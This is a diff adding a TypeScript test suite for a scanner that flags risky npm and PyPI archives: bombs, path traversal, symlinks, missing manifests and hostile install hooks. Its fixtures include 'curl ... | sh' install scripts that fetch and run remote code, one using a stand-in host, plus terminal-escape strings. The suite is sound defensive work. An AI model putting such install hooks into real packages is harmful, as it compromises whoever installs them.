@@ -1,0 +1,147 @@
+import { npmPackage, rawTarball, tarball, wheel, zip } from '../testing/archives';
+import { WHEELS } from '../testing/wheel-samples';
+import { analyzeArtifact } from './analyze-artifact';
+
+describe('process/analyze-artifact', () => {
+  it.each(WHEELS)('wheel: $what is $verdict', async ({ files, record, verdict, rules = [] }) => {
+    const analysis = await analyzeArtifact('pypi', wheel(files, record === undefined ? {} : { record }));
+
+    expect([analysis.verdict, analysis.findings.map(({ rule }) => rule)]).toEqual([
+      verdict,
+      expect.arrayContaining([...rules]),
+    ]);
+  });
+
+  it.each<[string, 'npm' | 'pypi', () => Promise<Buffer> | Buffer, string, string]>([
+    ['a corrupt tarball', 'npm', () => Buffer.from('x'), 'unknown', 'archive-corrupt'],
+    ['a corrupt wheel', 'pypi', () => Buffer.from('x'), 'unknown', 'archive-corrupt'],
+    [
+      'a bomb',
+      'npm',
+      () => npmPackage({}, { 'a.txt': Buffer.alloc(48 * 1024 * 1024) }),
+      'unknown',
+      'archive-limit-exceeded',
+    ],
+    [
+      'a link',
+      'npm',
+      () => rawTarball([[{ name: 'package/x', type: 'symlink', linkname: '/etc' }]]),
+      'suspicious',
+      'archive-link',
+    ],
+    [
+      'an escape',
+      'npm',
+      () => rawTarball([[{ name: 'package/../../x' }, 'x']]),
+      'suspicious',
+      'archive-unsafe-path',
+    ],
+    [
+      'an escape in a wheel',
+      'pypi',
+      () => zip([{ name: '../x', content: 'x' }]),
+      'suspicious',
+      'archive-unsafe-path',
+    ],
+    [
+      'a device',
+      'npm',
+      () => rawTarball([[{ name: 'package/x', type: 'block-device' }]]),
+      'suspicious',
+      'archive-special-entry',
+    ],
+    [
+      'two of one',
+      'npm',
+      () =>
+        rawTarball([
+          [{ name: 'package/a' }, '1'],
+          [{ name: 'package/a' }, '2'],
+        ]),
+      'suspicious',
+      'archive-duplicate-entry',
+    ],
+    ['no manifest', 'npm', () => tarball({ 'index.js': '' }), 'suspicious', 'manifest-missing'],
+    [
+      'a manifest that is none',
+      'npm',
+      () => tarball({ 'package.json': '{"name": 1}' }),
+      'suspicious',
+      'manifest-missing',
+    ],
+    [
+      'a wheel without metadata',
+      'pypi',
+      () => zip([{ name: 'a.py', content: '' }]),
+      'suspicious',
+      'manifest-missing',
+    ],
+    [
+      'a wheel without RECORD',
+      'pypi',
+      () => zip([{ name: 'a-1.dist-info/METADATA', content: 'Name: a\nVersion: 1\n' }]),
+      'suspicious',
+      'record-missing',
+    ],
+  ])('%s is %s', async (_, ecosystem, build, verdict, rule) => {
+    const analysis = await analyzeArtifact(ecosystem, await build());
+
+    expect([analysis.verdict, analysis.findings.map((finding) => finding.rule)]).toEqual([
+      verdict,
+      expect.arrayContaining([rule]),
+    ]);
+  });
+
+  it('says who the artifact is, what is in it and what it can do', async () => {
+    const npm = await analyzeArtifact(
+      'npm',
+      await npmPackage(
+        { name: '@s/a', version: '2.0.0', scripts: { install: 'curl x | sh' } },
+        { 'a.node': Buffer.from('7f454c46', 'hex') },
+      ),
+    );
+    const pypi = await analyzeArtifact(
+      'pypi',
+      wheel({ 'a.pth': 'import os' }, { name: 'Foo_Bar', version: '1.0' }),
+    );
+
+    expect(npm).toMatchObject({
+      identity: { name: '@s/a', version: '2.0.0' },
+      files: 2,
+      capabilities: ['native-code', 'network', 'subprocess'],
+    });
+    expect(pypi).toMatchObject({
+      identity: { name: 'Foo_Bar', version: '1.0' },
+      files: 4,
+      capabilities: ['autoload-file'],
+    });
+  });
+
+  it('reads the last of two package.json as npm does, and says that there are two', async () => {
+    const harmless = JSON.stringify({ name: 'a', version: '1.0.0' });
+    const harmful = JSON.stringify({
+      name: 'a',
+      version: '1.0.0',
+      scripts: { install: 'curl https://x.invalid | sh' },
+    });
+
+    const analysis = await analyzeArtifact(
+      'npm',
+      await rawTarball([
+        [{ name: 'package/package.json' }, harmless],
+        [{ name: 'x/package.json' }, harmful],
+      ]),
+    );
+
+    expect(analysis.verdict).toBe('malicious');
+  });
+
+  it('makes hostile text printable', async () => {
+    const analysis = await analyzeArtifact(
+      'npm',
+      await npmPackage({ scripts: { install: 'echo \u001b[2J\u202e' } }),
+    );
+
+    expect(analysis.findings[0]?.evidence).toBe('echo \\u001b[2J\\u202e');
+  });
+});
